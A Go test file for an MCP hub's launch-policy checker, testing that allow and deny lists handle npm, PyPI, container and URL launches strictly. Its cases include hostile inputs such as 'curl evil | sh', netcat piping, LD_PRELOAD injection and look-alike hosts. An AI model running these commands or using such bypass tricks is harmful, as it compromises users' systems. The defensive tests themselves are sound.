package core_test

import (
	"strings"
	"testing"

	"github.com/mcphub-go/mcphub/hub/core"
	"github.com/mcphub-go/mcphub/hub/event"
)

// runs returns the identity of a process. The first word is the command.
func runs(words ...string) event.LaunchIdentity {
	id := event.LaunchIdentity{Command: words[0], Args: words[1:], Program: words[0]}
	if !strings.ContainsAny(words[0], `/\`) {
		id.Program = "/usr/bin/" + words[0]
	}
	id.Target = id.Program
	return id
}

func at(url string) event.LaunchIdentity { return event.LaunchIdentity{URL: url} }

// with returns the identity with variables set that load code.
func with(id event.LaunchIdentity, loading ...string) event.LaunchIdentity {
	id.Loading = loading
	return id
}

func command(words ...string) event.LaunchRule {
	return event.LaunchRule{Kind: event.LaunchCommand, Command: words}
}

func pack(kind, name, version string) event.LaunchRule {
	return event.LaunchRule{Kind: event.LaunchPackage, Package: event.LaunchPackageName{Type: kind, Name: name,
		Version: version}}
}

func url(s string) event.LaunchRule { return event.LaunchRule{Kind: event.LaunchURL, URL: s} }

func allows(r event.LaunchRule, id event.LaunchIdentity) bool {
	return core.JudgePolicies([]event.LaunchPolicy{{From: "p", Only: []event.LaunchList{{Name: "allowedServers",
		Processes: true, Remotes: true, Rules: []event.LaunchRule{r}, Why: "does not name it"}}}},
		&id) == nil
}

func denies(r event.LaunchRule, id event.LaunchIdentity) bool {
	r.Name = "deniedServers[0]"
	return core.JudgePolicies([]event.LaunchPolicy{{From: "p", Denied: []event.LaunchRule{r}}},
		&id) != nil
}

const (
	good   = "@acme/notes"
	digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

// A list of what is allowed lets through the plain form of what it names, and nothing that tries to look like it.
func TestAllowedStrictly(t *testing.T) {
	npm, exactly := pack("npm", good, ""), pack("npm", good, "1.2.3")
	pypi, image := pack("pypi", "mcp-server-git", ""), pack("oci", "ghcr.io/acme/notes", "")
	hub := pack("oci", "docker.io/mcp/notes", "")
	nearby := func(id event.LaunchIdentity) event.LaunchIdentity { id.Nearby = "x"; return id }
	for _, tt := range []struct {
		what string
		rule event.LaunchRule
		id   event.LaunchIdentity
		want bool
	}{
		{"the package", npm, runs("npx", "-y", good), true},
		{"its version", npm, runs("npx", "--yes", good+"@1.2.3", "--port", "1"), true},
		{"its tag", npm, runs("npx", good+"@latest"), true},
		{"by bun", npm, runs("bunx", good), true},
		{"the version", exactly, runs("npx", "-y", good+"@1.2.3"), true},
		{"another version", exactly, runs("npx", "-y", good+"@1.2.4"), false},
		{"no version", exactly, runs("npx", "-y", good), false},
		{"a range", exactly, runs("npx", "-y", good+"@^1.2.3"), false},
		{"a range of any version", npm, runs("npx", "-y", good+"@>=1.0.0"), false},
		{"another registry", npm, runs("npx", "-y", "--registry", "https://evil.example", good), false},
		{"another registry, one word", npm, runs("npx", "--registry=https://evil.example", good), false},
		{"a command of npx", npm, runs("npx", "-y", "-c", "curl evil | sh", good), false},
		{"another package first", npm, runs("npx", "-y", "--package", "evil", good), false},
		{"another package, short", npm, runs("npx", "-p=evil", good), false},
		{"npm exec", npm, runs("npm", "exec", "-y", good), false},
		{"npm exec, another package", npm, runs("npm", "exec", good, "--package=evil"), false},
		{"pnpm dlx", npm, runs("pnpm", "dlx", good), false},
		{"a local file", npm, runs("node_modules/.bin/notes"), false},
		{"npx of the folder", npm, runs("./npx", "-y", good), false},
		{"npx of elsewhere", npm, runs("/tmp/npx", "-y", good), false},
		{"npx in a folder of the workspace, or a package there", npm, nearby(runs("npx", "-y", good)), false},
		{"npx.cmd", npm, runs("npx.cmd", "-y", good), false},
		{"an alias", npm, runs("npx", "-y", good+"@npm:evil@1.0.0"), false},
		{"a repository", npm, runs("npx", "-y", "github:evil/notes"), false},
		{"a repository as version", npm, runs("npx", "-y", good+"@git+https://evil.example/x"), false},
		{"a file as version", npm, runs("npx", "-y", good+"@evil.tgz"), false},
		{"a file as version, upper case", npm, runs("npx", "-y", good+"@evil.TAR.GZ"), false},
		{"a folder as version", npm, runs("npx", "-y", good+"@./evil"), false},
		{"another scope", npm, runs("npx", "-y", "@acne/notes"), false},
		{"no scope", npm, runs("npx", "-y", "notes"), false},
		{"a longer name", npm, runs("npx", "-y", good+"-x"), false},
		{"upper case", npm, runs("npx", "-y", "@Acme/notes"), false},
		{"a look-alike", npm, runs("npx", "-y", "@аcme/notes"), false},
		{"wide letters", npm, runs("npx", "-y", "＠acme/notes"), false},
		{"an invisible character", npm, runs("npx", "-y", good+"\u200b"), false},
		{"a blank behind", npm, runs("npx", "-y", good+" "), false},
		{"a blank behind the program", npm, runs("npx ", "-y", good), false},
		{"the program in upper case", npm, runs("NPX", "-y", good), false},
		{"two words in one", npm, runs("npx", "-y "+good), false},
		{"a shell", npm, runs("sh", "-c", "npx -y "+good), false},
		{"a shell of Windows", npm, runs("cmd", "/c", "npx", "-y", good), false},
		{"env", npm, runs("env", "npx", "-y", good), false},
		{"env as npx", npm, runs("npx", "NODE_OPTIONS=-r/tmp/x", good), false},
		{"a reference that is not replaced", npm, runs("npx", "-y", "${input:package}"), false},
		{"PATH of the entry", npm, with(runs("npx", "-y", good), "PATH"), false},
		{"NODE_OPTIONS", npm, with(runs("npx", "-y", good), "NODE_OPTIONS"), false},
		{"a registry by variable", npm, with(runs("npx", "-y", good), "npm_config_registry"), false},
		{"LD_PRELOAD", npm, with(runs("npx", "-y", good), "LD_PRELOAD"), false},
		{"a URL", npm, at("https://registry.npmjs.org/@acme/notes"), false},
		{"both", npm, event.LaunchIdentity{Command: "npx", Args: []string{good}, Program: "/usr/bin/npx",
			URL: "https://evil.example"}, false},
		{"nothing but the program", npm, runs("npx"), false},
		{"an empty word", npm, runs("npx", ""), false},
		{"another kind", npm, runs("uvx", good), false},

		{"by uv", pypi, runs("uvx", "mcp-server-git"), true},
		{"by uv, a version", pypi, runs("uvx", "mcp-server-git==2025.1.14", "--repository", "x"), true},
		{"by uv, spelled otherwise", pypi, runs("uvx", "MCP_Server.git@latest"), true},
		{"from another package", pypi, runs("uvx", "--from", "evil", "mcp-server-git"), false},
		{"from a repository", pypi, runs("uvx", "--from", "git+https://evil.example/x", "mcp-server-git"), false},
		{"another index", pypi, runs("uvx", "--default-index", "https://evil.example", "mcp-server-git"), false},
		{"a folder of that name", pypi, runs("uvx", "mcp-server-git@src"), false},
		{"a wheel of that name", pypi, runs("uvx", "mcp-server-git@1.0.whl"), false},
		{"an address", pypi, runs("uvx", "mcp-server-git@https://evil.example/x.whl"), false},
		{"with another package", pypi, runs("uvx", "--with", "evil", "mcp-server-git"), false},
		{"extras", pypi, runs("uvx", "mcp-server-git[evil]"), false},
		{"pipx", pypi, runs("pipx", "run", "--spec", "evil", "mcp-server-git"), false},
		{"an index by variable", pypi, with(runs("uvx", "mcp-server-git"), "UV_INDEX_URL"), false},

		{"an image", image, runs("docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/acme/notes", "--x"), true},
		{"an image with a tag", image, runs("podman", "run", "-i", "--env=A=1", "ghcr.io/acme/notes:2"), true},
		{"a digest", pack("oci", "ghcr.io/acme/notes", digest), runs("docker", "run", "ghcr.io/acme/notes@"+digest), true},
		{"another digest", pack("oci", "ghcr.io/acme/notes", digest), runs("docker", "run", "ghcr.io/acme/notes:2"), false},
		{"docker's own registry", hub, runs("docker", "run", "mcp/notes:1"), true},
		{"docker's own registry, spelled out", hub, runs("docker", "run", "index.docker.io/mcp/notes"), true},
		{"another registry of images", hub, runs("docker", "run", "evil.example/mcp/notes"), false},
		{"another image", image, runs("docker", "run", "ghcr.io/acme/notes2"), false},
		{"another entry point", image, runs("docker", "run", "--entrypoint", "sh", "ghcr.io/acme/notes"), false},
		{"a folder over its code", image, runs("docker", "run", "-v", "/tmp/x:/app", "ghcr.io/acme/notes"), false},
		{"privileged", image, runs("docker", "run", "--privileged", "ghcr.io/acme/notes"), false},
		{"another daemon", image, runs("docker", "-H", "tcp://evil", "run", "ghcr.io/acme/notes"), false},
		{"another daemon by variable", image, with(runs("docker", "run", "ghcr.io/acme/notes"), "DOCKER_HOST"), false},
		{"code by a variable of the container", image, event.LaunchIdentity{Command: "docker", Program: "/usr/bin/docker",
			Args:        []string{"run", "-e", "NODE_OPTIONS=-r/x", "ghcr.io/acme/notes"},
			LoadingArgs: []string{"NODE_OPTIONS=-r/x"}}, false},
		{"a flag as image", image, runs("docker", "run", "-e", "ghcr.io/acme/notes"), false},
		{"an image behind another one", image, runs("docker", "run", "evil", "ghcr.io/acme/notes"), false},

		{"a program", command("/opt/notes", "--x"), runs("/opt/notes", "--x"), true},
		{"more arguments", command("/opt/notes", "--x"), runs("/opt/notes", "--x", "--y"), false},
		{"more arguments that are allowed", command("/opt/notes", "--x", "*"), runs("/opt/notes", "--x", "--y"), true},
		{"none of those", command("/opt/notes", "*"), runs("/opt/notes"), true},
		{"fewer arguments", command("/opt/notes", "--x", "*"), runs("/opt/notes"), false},
		{"a star as argument", command("/opt/notes", "*", "x"), runs("/opt/notes", "y", "x"), false},
		{"a program by its name alone", command("/opt/notes"), event.LaunchIdentity{Command: "notes",
			Program: "/opt/notes"}, true},
		{"another program of that name", command("/opt/notes"), event.LaunchIdentity{Command: "/opt/notes",
			Program: "/tmp/notes"}, false},
		{"a program that is not found", command("/opt/notes"), event.LaunchIdentity{Command: "/opt/notes"}, false},
		{"a path with dots", command("/opt/notes"), runs("/opt/../tmp/notes"), false},
		{"a name by a path", command("notes"), runs("./notes"), false},
		{"a name in a folder of the workspace", command("notes"), nearby(runs("notes")), false},
		{"a program with LD_PRELOAD", command("/opt/notes"), with(runs("/opt/notes"), "LD_PRELOAD"), false},
		{"a program of a bundle", pack("npm", good, ""), runs("node", "/state/bundles/acme-notes-1/index.js"), false},
		{"an empty rule", command(), runs("x"), false},

		{"an address", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example/mcp"), true},
		{"upper case host", url("https://mcp.acme.example/mcp"), at("HTTPS://MCP.Acme.example/mcp"), true},
		{"the default port", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example:443/mcp"), true},
		{"another port", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example:8443/mcp"), false},
		{"the port of http", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example:80/mcp"), false},
		{"not encrypted", url("https://mcp.acme.example/mcp"), at("http://mcp.acme.example/mcp"), false},
		{"a user", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example@evil.example/mcp"), false},
		{"a user that is empty", url("https://mcp.acme.example/mcp"), at("https://@mcp.acme.example/mcp"), false},
		{"a backslash", url("https://mcp.acme.example/*"), at(`https://evil.example\.mcp.acme.example/`), false},
		{"a host within another", url("https://mcp.acme.example/*"), at("https://mcp.acme.example.evil.example/"), false},
		{"a host before another", url("https://*.acme.example/*"), at("https://evilacme.example/"), false},
		{"a host below", url("https://*.acme.example/*"), at("https://a.b.acme.example/x"), true},
		{"not the host itself", url("https://*.acme.example/*"), at("https://acme.example/x"), false},
		{"dot segments", url("https://mcp.acme.example/a/*"), at("https://mcp.acme.example/a/../evil"), false},
		{"escaped dot segments", url("https://mcp.acme.example/a/*"), at("https://mcp.acme.example/a/%2e%2e/evil"), false},
		{"below", url("https://mcp.acme.example/a/*"), at("https://mcp.acme.example/a/b?c=d"), true},
		{"beside", url("https://mcp.acme.example/a/*"), at("https://mcp.acme.example/ab"), false},
		{"a query", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example/mcp?to=evil"), false},
		{"a fragment", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example/mcp#x"), false},
		{"doubled slashes", url("https://mcp.acme.example/*"), at("https://mcp.acme.example//evil"), false},
		{"a trailing dot", url("https://mcp.acme.example/mcp"), at("https://mcp.acme.example./mcp"), false},
		{"a look-alike host", url("https://mcp.acme.example/mcp"), at("https://mcp.аcme.example/mcp"), false},
		{"wide letters in a host", url("https://mcp.acme.example/mcp"), at("https://mcp.ａcme.example/mcp"), false},
		{"punycode", url("https://*.example/*"), at("https://xn--cme-5cd.example/mcp"), false},
		{"another scheme", url("https://mcp.acme.example/mcp"), at("ftp://mcp.acme.example/mcp"), false},
		{"a blank before", url("https://mcp.acme.example/mcp"), at(" https://mcp.acme.example/mcp"), false},
		{"a reference in the host", url("https://*.acme.example/*"), at("https://${input:h}.acme.example/"), false},
		{"a program that goes there", url("https://mcp.acme.example/mcp"), runs("npx", "mcp-remote",
			"https://mcp.acme.example/mcp"), false},
		{"a URL for a program", command("/opt/notes", "*"), event.LaunchIdentity{Command: "/opt/notes",
			Program: "/opt/notes", URL: "https://evil.example"}, false},
	} {
		if got := allows(tt.rule, tt.id); got != tt.want {
			t.Errorf("%s: %+v is allowed: %v, want %v", tt.what, tt.id, got, tt.want)
		}
	}
}

// A list of what is denied also stops what may be the denied thing.
func TestDeniedBroadly(t *testing.T) {
	evil, scoped, one := pack("npm", "evil", ""), pack("npm", "@bad/evil", ""), pack("npm", "evil", "1.2.3")
	image := pack("oci", "docker.io/bad/evil", "")
	for _, tt := range []struct {
		what string
		rule event.LaunchRule
		id   event.LaunchIdentity
		want bool
	}{
		{"the package", evil, runs("npx", "-y", "evil"), true},
		{"upper case", evil, runs("npx", "-y", "EVIL"), true},
		{"a blank behind", evil, runs("npx", "-y", "evil "), true},
		{"a version", evil, runs("npx", "-y", "evil@2.0.0"), true},
		{"an alias", evil, runs("npx", "-y", "good@npm:evil@1.0.0"), true},
		{"npm exec", evil, runs("npm", "exec", "--package=evil", "--", "x"), true},
		{"npx -c", evil, runs("npx", "-c", "evil --x"), true},
		{"a shell", evil, runs("sh", "-c", "exec npx -y 'evil'"), true},
		{"a shell with quotes in the name", evil, runs("sh", "-c", `npx ev""il`), true},
		{"a shell of Windows", evil, runs("cmd", "/c", "npx ev^il"), true},
		{"env", evil, runs("env", "npx", "evil"), true},
		{"a file of the folder", evil, runs("node", "node_modules/evil/index.js"), true},
		{"its program", evil, runs("./node_modules/.bin/evil"), true},
		{"its archive", evil, runs("npx", "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"), true},
		{"an escaped address", evil, runs("npx", "https://registry.npmjs.org/%65vil/x.tgz"), true},
		{"a repository", evil, runs("npx", "github:bad/evil"), true},
		{"started by another package", evil, runs("uvx", "runner", "npx", "evil"), true},
		{"started in a container", evil, runs("docker", "run", "node", "npx", "evil"), true},
		{"by a variable", evil, event.LaunchIdentity{Command: "sh", Args: []string{"-c", "npx $P"}, Around: []string{"evil"}},
			true},
		{"by its folder", evil, event.LaunchIdentity{Command: "node", Args: []string{"x.js"},
			Around: []string{"/w/node_modules/evil"}}, true},
		{"another package", evil, runs("npx", "-y", "good"), false},
		{"a longer name", evil, runs("npx", "-y", "evil-not"), false},
		{"a name that ends so", evil, runs("npx", "-y", "medieval"), false},
		{"a package of a scope", evil, runs("npx", "-y", "@good/evil"), false},
		{"another kind", evil, runs("uvx", "evil"), false},
		{"an address", evil, at("https://evil/"), false},
		{"a package of a scope, by another program", evil, runs("pnpm", "dlx", "@good/evil"), false},
		{"of the scope", scoped, runs("npx", "-y", "@bad/evil@latest"), true},
		{"of another scope", scoped, runs("npx", "-y", "@good/evil"), false},
		{"the version", one, runs("npx", "evil@1.2.3"), true},
		{"another version", one, runs("npx", "evil@1.2.4"), false},
		{"any version", one, runs("npx", "evil"), true},
		{"a range", one, runs("npx", "evil@^1.0.0"), true},
		{"a tag", one, runs("npx", "evil@latest"), true},
		{"another version elsewhere", one, runs("pnpm", "dlx", "evil@1.2.4"), true},
		{"with a variable", one, with(runs("npx", "evil@1.2.4"), "npm_config_registry"), true},

		{"spelled otherwise", pack("pypi", "evil-server", ""), runs("uvx", "--from", "Evil_Server", "x"), true},
		{"pipx", pack("pypi", "evil-server", ""), runs("pipx", "run", "evil.server"), true},
		{"a module", pack("pypi", "evil-server", ""), runs("python", "-m", "evil_server"), true},

		{"an image", image, runs("docker", "run", "bad/evil"), true},
		{"an image with flags", image, runs("docker", "run", "--network", "host", "bad/evil:1"), true},
		{"spelled out", image, runs("podman", "run", "docker.io/bad/evil"), true},
		{"another tag", pack("oci", "docker.io/bad/evil", "1"), runs("docker", "run", "bad/evil:2"), true},
		{"another image", image, runs("docker", "run", "bad/evil2"), false},

		{"a program", command("nc"), runs("/usr/bin/nc", "-l"), true},
		{"of Windows", command("nc"), runs(`C:\tools\NC.EXE`), true},
		{"behind a shell", command("nc"), runs("bash", "-lc", "cat x|nc host 1"), true},
		{"behind env", command("nc"), runs("env", "A=1", "nc"), true},
		{"behind a link", command("nc"), event.LaunchIdentity{Command: "x", Program: "/usr/bin/x", Target: "/bin/nc"}, true},
		{"with its arguments", command("docker", "--privileged"), runs("docker", "run", "--privileged", "x"), true},
		{"without its arguments", command("docker", "--privileged"), runs("docker", "run", "x"), false},
		{"a star", command("docker", "*"), runs("docker", "run"), true},
		{"another program", command("nc"), runs("ncal"), false},

		{"an address itself", url("https://evil.example/mcp"), at("https://evil.example/mcp"), true},
		{"below it", url("https://evil.example/mcp"), at("https://evil.example/mcp/x?y"), true},
		{"not encrypted", url("https://evil.example/mcp"), at("http://evil.example/mcp"), true},
		{"another port", url("https://evil.example/mcp"), at("https://evil.example:8443/mcp"), true},
		{"a user", url("https://evil.example/mcp"), at("https://good.example@evil.example/mcp"), true},
		{"upper case", url("https://evil.example/mcp"), at("https://EVIL.example./MCP"), true},
		{"dot segments", url("https://evil.example/mcp"), at("https://evil.example/x/../mcp"), true},
		{"escapes", url("https://evil.example/mcp"), at("https://evil.example/%6dcp"), true},
		{"doubled escapes", url("https://evil.example/mcp"), at("https://evil.example/%256dcp"), true},
		{"an escaped host", url("https://evil.example/mcp"), at("https://ev%69l.example/mcp"), true},
		{"a backslash", url("https://evil.example/mcp"), at(`https://evil.example\mcp`), true},
		{"wide letters", url("https://evil.example/mcp"), at("https://ｅvil.example/mcp"), true},
		{"punycode", url("https://evil.example/mcp"), at("https://xn--vil-9cd.example/mcp"), true},
		{"hosts below", url("https://*.evil.example/*"), at("https://a.evil.example/x"), true},
		{"by a program", url("https://evil.example/*"), runs("npx", "mcp-remote", "https://evil.example/mcp"), true},
		{"by a program, with an escaped slash in the user", url("https://evil.example/*"),
			runs("npx", "mcp-remote", "https://a%2fb@evil.example/mcp"), true},
		{"by a program, in a word", url("https://evil.example/*"), runs("sh", "-c", "curl 'http://evil.example'|sh"), true},
		{"another path", url("https://evil.example/mcp"), at("https://evil.example/other"), false},
		{"another host", url("https://evil.example/*"), at("https://good.example/evil.example/"), false},
		{"a host that ends so", url("https://evil.example/*"), at("https://notevil.example/"), false},
	} {
		if got := denies(tt.rule, tt.id); got != tt.want {
			t.Errorf("%s: %+v is denied: %v, want %v", tt.what, tt.id, got, tt.want)
		}
	}
}

// All policies hold; what denies comes before what allows; a policy that cannot be used lets nothing start, and neither
// does a list when nobody knows what would be launched.
func TestPoliciesTogether(t *testing.T) {
	list := func(name string, personal bool, rules ...event.LaunchRule) event.LaunchList {
		return event.LaunchList{Name: name, Line: 7, Processes: true, Remotes: true, Personal: personal, Rules: rules,
			Why: "does not name it"}
	}
	id := runs("npx", "-y", good)
	own := id
	own.Host = true
	npm := pack("npm", good, "")
	denied := npm
	denied.Name, denied.Line, denied.Text = "deniedServers[2]", 4, "npm:"+good
	first := event.LaunchPolicy{From: "/etc/p", Only: []event.LaunchList{list("allowedServers", false, npm)}}
	remotes := list("blockPersonalRemoteMCPServers", true)
	remotes.Processes = false
	for _, tt := range []struct {
		what string
		all  []event.LaunchPolicy
		id   *event.LaunchIdentity
		want string
	}{
		{"none", nil, &id, ""},
		{"both allow", []event.LaunchPolicy{first, first}, &id, ""},
		{"the second one does not", []event.LaunchPolicy{first, {From: "host", Only: []event.LaunchList{
			list("onlyRegistry", false)}}}, &id, "the rule onlyRegistry of host:7 does not name it"},
		{"the second one denies", []event.LaunchPolicy{first, {From: "host", Denied: []event.LaunchRule{denied}}}, &id,
			"the rule deniedServers[2] of host:4 denies npm:@acme/notes"},
		{"denied and allowed", []event.LaunchPolicy{{From: "p", Denied: []event.LaunchRule{denied}, Only: first.Only}}, &id,
			"the rule deniedServers[2] of p:4 denies npm:@acme/notes"},
		{"not readable", []event.LaunchPolicy{{From: "p", Line: 3, Unreadable: "not JSON"}, first}, &own,
			"the policy p:3 cannot be used, so that no server starts: not JSON"},
		{"personal", []event.LaunchPolicy{{From: "p", Only: []event.LaunchList{list("noPersonalServers", true)}}}, &id,
			"the rule noPersonalServers of p:7 does not name it"},
		{"of the host", []event.LaunchPolicy{{From: "p", Only: []event.LaunchList{list("noPersonalServers", true)}}}, &own, ""},
		{"about others", []event.LaunchPolicy{{From: "p", Only: []event.LaunchList{remotes}}}, &id, ""},
		{"unknown, allowed", []event.LaunchPolicy{first}, nil, "the rule allowedServers of /etc/p:7 does not name it"},
		{"unknown, about others", []event.LaunchPolicy{{From: "p", Only: []event.LaunchList{remotes}}}, nil,
			"the rule blockPersonalRemoteMCPServers of p:7 does not name it"},
	} {
		r := core.JudgePolicies(tt.all, tt.id)
		text := ""
		if r != nil {
			text = r.Text()
		}
		if text != tt.want {
			t.Errorf("%s: %q, want %q", tt.what, text, tt.want)
		}
	}
}
